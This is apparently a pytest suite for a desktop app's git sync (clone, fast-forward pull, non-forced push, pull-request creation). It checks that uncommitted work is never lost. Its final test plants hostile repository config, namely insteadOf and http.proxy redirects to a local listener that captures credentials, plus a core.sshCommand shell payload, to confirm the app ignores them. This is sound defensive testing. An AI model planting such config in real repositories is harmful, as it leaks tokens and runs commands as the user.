"""Clone, pull (fast-forward only) and push over git's smart HTTP, against a loopback dulwich
server: divergence and a dirty tree never lose work; a push is never forced."""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest

from devora_desktop.core.errors import DevoraError
from devora_desktop.core.gitsync import clone, pull, push
from tests.fakes.git_http_server import GitHttpServer
from tests.gitrepos import git, make_repo, needs_git, tree_bytes

pytestmark = needs_git
TOKEN = "ghp_fakeToken0123456789abcdefghijklmnop"


@pytest.fixture
def origin(tmp_path: Path):
    upstream = make_repo(tmp_path / "upstream", {"a.txt": "a\n", "b.txt": "b\n"}, hooks=False)
    git(upstream, "config", "receive.denyCurrentBranch", "ignore")
    with GitHttpServer({"shop.git": upstream}, token=TOKEN) as server:
        yield server, upstream


def test_clone_pull_and_push_round_trip(origin, tmp_path: Path) -> None:
    server, upstream = origin
    with pytest.raises(DevoraError, match="refused the credentials"):
        clone(server.url("shop.git"), tmp_path / "nope", token="wrong")
    assert not (tmp_path / "nope").exists()
    mine = clone(server.url("shop.git"), tmp_path / "mine", token=TOKEN)
    assert (mine / "a.txt").read_text() == "a\n"
    assert git(mine, "rev-parse", "HEAD") == git(upstream, "rev-parse", "HEAD")

    (upstream / "a.txt").write_text("a2\n")
    git(upstream, "commit", "-qam", "upstream change")
    (mine / "notes.local").write_text("untracked, mine\n")
    result = pull(mine, token=TOKEN)
    assert result.changed == ["a.txt"] and (mine / "a.txt").read_text() == "a2\n"
    assert git(mine, "rev-parse", "HEAD") == git(upstream, "rev-parse", "HEAD")
    assert git(mine, "status", "--porcelain") == "?? notes.local"
    assert pull(mine, token=TOKEN).message == "already up to date"

    (mine / "b.txt").write_text("b from me\n")
    git(mine, "-c", "user.name=Me", "-c", "user.email=m@x", "commit", "-qam", "mine")
    push(mine, "devora/feature", token=TOKEN)
    assert git(upstream, "log", "-1", "--format=%s", "devora/feature") == "mine"


def test_divergence_and_a_dirty_tree_change_nothing(origin, tmp_path: Path) -> None:
    server, upstream = origin
    mine = clone(server.url("shop.git"), tmp_path / "mine", token=TOKEN)
    (upstream / "a.txt").write_text("theirs\n")
    git(upstream, "commit", "-qam", "theirs")
    (mine / "a.txt").write_text("my unsaved work\n")
    before, head = tree_bytes(mine), git(mine, "rev-parse", "HEAD")
    with pytest.raises(DevoraError, match=r"a\.txt has changes of yours"):
        pull(mine, token=TOKEN)
    assert tree_bytes(mine) == before and git(mine, "rev-parse", "HEAD") == head

    git(mine, "-c", "user.name=Me", "-c", "user.email=m@x", "commit", "-qam", "mine")
    before, head = tree_bytes(mine), git(mine, "rev-parse", "HEAD")
    with pytest.raises(DevoraError, match="have diverged; nothing was changed"):
        pull(mine, token=TOKEN)
    assert tree_bytes(mine) == before and git(mine, "rev-parse", "HEAD") == head
    upstream_head = git(upstream, "rev-parse", "main")
    with pytest.raises(DevoraError, match="nothing was"):
        push(mine, "main", token=TOKEN)  # never forced over the remote's commit
    assert git(upstream, "rev-parse", "main") == upstream_head


def test_cli_clone_pull_push_and_pull_request(run_cli, monkeypatch, tmp_path: Path) -> None:
    import json

    from tests.fakes.github_server import FakeGitHub

    upstream = make_repo(tmp_path / "upstream", {"a.txt": "a\n"}, hooks=False)
    git(upstream, "config", "receive.denyCurrentBranch", "ignore")
    github = FakeGitHub()
    github.add_repo("shop")
    monkeypatch.setenv("DEVORA_GITHUB_TOKEN", "good-token")
    try:
        with GitHttpServer({"shop.git": upstream}, token="good-token") as server:
            out = run_cli("projects", "clone", server.url("shop.git"), "--into",
                          str(tmp_path / "shop"))
            assert out.code == 0, out
            pid = json.loads(run_cli("projects", "list", "--json").out)[0]["id"]
            (upstream / "a.txt").write_text("a2\n")
            git(upstream, "commit", "-qam", "upstream")
            pulled = run_cli("projects", "pull", pid)
            assert pulled.code == 0 and "fast-forwarded 1 file" in pulled.out, pulled
            (tmp_path / "shop" / "b.txt").write_text("new\n")
            git(tmp_path / "shop", "add", "b.txt")
            git(tmp_path / "shop", "-c", "user.name=Me", "-c", "user.email=m@x", "commit",
                "-qm", "Add b")
            pushed = run_cli("projects", "push", pid, "--branch", "devora/b", "--pr",
                             "--repo", "octo/shop", "--api-url", github.url)
            assert pushed.code == 0, pushed
            assert "https://github.com/octo/shop/pull/1" in pushed.out
            assert git(upstream, "log", "-1", "--format=%s", "devora/b") == "Add b"
            pull_request = github.repos["octo/shop"]["pulls"][0]
            assert pull_request["head"] == {"ref": "devora/b"} and pull_request["title"] == \
                "Add b"
    finally:
        github.stop()


def test_the_repositorys_own_config_never_decides_how_devora_reaches_the_remote(
        origin, tmp_path: Path) -> None:
    """Code that ran in the project can write .git/config (Landlock alone leaves .git
    writable; a folder may come with its .git). Its core.sshCommand ran as the person on
    pull and push, and its insteadOf / http.proxy sent the token to another host."""
    import socket
    import threading

    server, _upstream = origin
    mine = clone(server.url("shop.git"), tmp_path / "mine", token=TOKEN)
    heard: list[bytes] = []
    thief = socket.create_server(("127.0.0.1", 0))
    thief.settimeout(5)

    def listen() -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = thief.accept()
                conn.settimeout(2)
                with conn:
                    heard.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.0 401 Who\r\nWWW-Authenticate: Basic realm=x\r\n"
                                 b"Content-Length: 0\r\n\r\n")

    threading.Thread(target=listen, daemon=True).start()
    evil = f"http://127.0.0.1:{thief.getsockname()[1]}/"
    git(mine, "config", f"url.{evil}.insteadOf", server.url(""))
    git(mine, "config", "http.proxy", evil)
    git(mine, "-c", "user.name=Me", "-c", "user.email=m@x", "commit", "-q", "--allow-empty",
        "-m", "mine")
    with contextlib.suppress(DevoraError):
        push(mine, "devora/feature", token=TOKEN)
    thief.close()
    assert not any(b"authorization:" in h.lower() for h in heard), heard  # the token
    assert git(_upstream, "log", "-1", "--format=%s", "devora/feature") == "mine"

    proof = tmp_path / "ran.txt"
    git(mine, "remote", "set-url", "origin", "ssh://git@127.0.0.1:1/shop.git")
    git(mine, "config", "core.sshCommand", f"sh -c 'echo ssh >> {proof}; exit 1' --")
    for act in (lambda: pull(mine, token=TOKEN), lambda: push(mine, "x", token=TOKEN)):
        with pytest.raises(DevoraError, match="not an https:// address"):
            act()
    assert not proof.exists()
